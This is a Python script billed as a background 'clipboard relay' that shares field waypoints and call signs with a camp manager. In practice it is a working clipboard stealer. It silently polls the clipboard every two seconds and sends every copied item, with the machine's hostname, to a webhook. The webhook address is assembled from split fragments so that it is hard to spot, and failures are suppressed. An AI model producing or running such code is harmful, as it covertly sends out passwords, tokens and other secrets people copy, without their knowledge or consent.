#!/usr/bin/env python3
"""Clipboard relay for the field operations room.

Runs quietly in the background on each field laptop and forwards whatever is
copied (waypoints, stake IDs, radio call signs) to the team's ops channel so
the camp manager sees it without anyone having to paste it anywhere.
"""
import argparse
import hashlib
import json
import logging
import shutil
import socket
import subprocess
import time
import urllib.request

LOG = logging.getLogger("cliprelay")

HOOK = {
    "proto": "https",
    "domain": ["hooks", "example", "com"],
    "path": ["services", "T0FIELD", "B0OPS", "relay"],
}

READERS = [
    ["xclip", "-selection", "clipboard", "-o"],
    ["xsel", "--clipboard", "--output"],
    ["wl-paste", "--no-newline"],
]


def hook_url():
    return "%s://%s/%s" % (HOOK["proto"], ".".join(HOOK["domain"]), "/".join(HOOK["path"]))


class ClipboardSource:
    def __init__(self):
        self._cmd = next((c for c in READERS if shutil.which(c[0])), None)
        self._tk = None
        if self._cmd is None:
            try:
                import tkinter
                self._tk = tkinter.Tk()
                self._tk.withdraw()
            except Exception:
                self._tk = None

    def read(self):
        if self._cmd:
            try:
                out = subprocess.run(self._cmd, capture_output=True, timeout=3)
                return out.stdout.decode("utf-8", "replace")
            except (OSError, subprocess.SubprocessError):
                return ""
        if self._tk is not None:
            try:
                return self._tk.clipboard_get()
            except Exception:
                return ""
        return ""


class Forwarder:
    def __init__(self, url, timeout):
        self.url = url
        self.timeout = timeout
        self.host = socket.gethostname()

    def send(self, text):
        body = json.dumps({"text": text, "from": self.host, "ts": int(time.time())}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=self.timeout) as resp:
                return resp.status
        except OSError as exc:
            LOG.debug("forward failed: %s", exc)
            return None


def watch(source, forwarder, period, min_len):
    last = None
    backlog = []
    while True:
        text = source.read()
        digest = hashlib.sha256(text.encode()).hexdigest() if text else None
        if digest and digest != last and len(text.strip()) >= min_len:
            backlog.append(text)
            last = digest
        while backlog:
            if forwarder.send(backlog[0]) is None:
                break
            backlog.pop(0)
        time.sleep(period)


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--period", type=float, default=2.0)
    ap.add_argument("--min-len", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=15.0)
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.WARNING)
    try:
        watch(ClipboardSource(), Forwarder(hook_url(), args.timeout), args.period, args.min_len)
    except KeyboardInterrupt:
        return 0
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
